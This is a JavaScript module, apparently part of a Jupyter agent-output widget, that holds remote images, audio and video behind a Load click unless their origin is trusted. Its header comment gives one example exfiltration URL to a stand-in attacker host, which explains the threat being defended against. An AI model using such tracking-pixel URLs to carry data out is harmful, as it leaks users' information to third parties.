// @ts-check
// Remote content by consent. An image, audio or video whose URL is http(s) loads only once the user clicks Load on
// its placeholder, unless its origin is one of the widget's `trusted_origins`: a request to a URL an agent chose
// can carry data out (https://attacker.example/pixel?q=<what it read>) or reach the Jupyter server's own API.
// data: and blob: URLs make no request and show at once. Links are not media: they still need their own click.
import { button, element, icon, label } from "./dom.js";
import { originSet, remoteOrigin } from "./urls.js";

const KIND_NAMES = { image: "Image", audio: "Audio", video: "Video" };

/** Which media URLs may load without a click, for one view of a widget. */
export class RemoteMediaPolicy {
  /**
   * `readTrusted()` returns the current `trusted_origins` value (read at each decision: it is a synced trait).
   * @param {() => unknown} [readTrusted]
   */
  constructor(readTrusted = () => []) {
    this.readTrusted = readTrusted;
    /** @type {unknown} the value `origins` was read from */
    this.entries = undefined;
    /** @type {Set<string>} */
    this.origins = new Set();
    /** @type {Set<string>} */
    this.consented = new Set(); // URLs the user loaded in this view: a redraw of their block shows them again
  }

  trustedOrigins() {
    const entries = this.readTrusted();
    if (entries !== this.entries) {
      this.entries = entries;
      this.origins = originSet(entries);
    }
    return this.origins;
  }

  /**
   * Whether `src` (an allowed media src) may load now: not remote, from a trusted origin, or loaded by a click.
   * @param {string} src
   * @returns {boolean}
   */
  allows(src) {
    const origin = remoteOrigin(src);
    return origin === null || this.consented.has(src) || this.trustedOrigins().has(origin);
  }

  /** @param {string} src */
  consent(src) {
    this.consented.add(src);
  }
}

/** The policy of a renderer that was given none: nothing remote loads without a click. */
export const CLICK_TO_LOAD = new RemoteMediaPolicy();

/**
 * A placeholder standing for media from `src` (`kind`: "image" | "audio" | "video"): what it is, the origin it
 * would be requested from, and a Load button that swaps in `create()` (a node or a list of nodes).
 * @param {object} media
 * @param {import("./urls.js").MediaKind} media.kind
 * @param {string} media.name what the media is called (an image's alt text, a file's name)
 * @param {string} media.src
 * @param {boolean} [media.inline] a span in running text rather than a block
 * @param {RemoteMediaPolicy} media.policy told of the consent a click gives
 * @param {() => Node | Node[]} media.create
 * @returns {HTMLElement}
 */
export function remotePlaceholder({ kind, name, src, inline, policy, create }) {
  const origin = remoteOrigin(src) ?? "";
  const box = element(inline ? "span" : "div", `agui-remote ${inline ? "agui-remote-inline" : "agui-remote-block"}`);
  box.dataset.agui = "remote-media";
  box.dataset.kind = kind;
  box.dataset.origin = origin;
  box.title = `${KIND_NAMES[kind]} not loaded: ${label(src, 300)}\nLoading it sends a request to ${origin}.`;
  const text = element("span", "agui-remote-text");
  const title = element("span", "agui-remote-name", label(name, 120) || `Remote ${kind}`);
  text.append(title, element("span", "agui-remote-origin", origin));
  const load = button("load-remote", `Load this ${kind} from ${origin}`, {
    text: "Load",
    className: "agui-button agui-remote-load",
  });
  load.addEventListener("click", (event) => {
    // A markdown image may sit inside a link (a badge): loading it must not also follow the link.
    event.preventDefault();
    event.stopPropagation();
    policy.consent(src);
    const made = create();
    box.replaceWith(...(Array.isArray(made) ? made : [made]));
  });
  box.append(icon(kind === "image" ? "image" : "play"), text, load);
  return box;
}
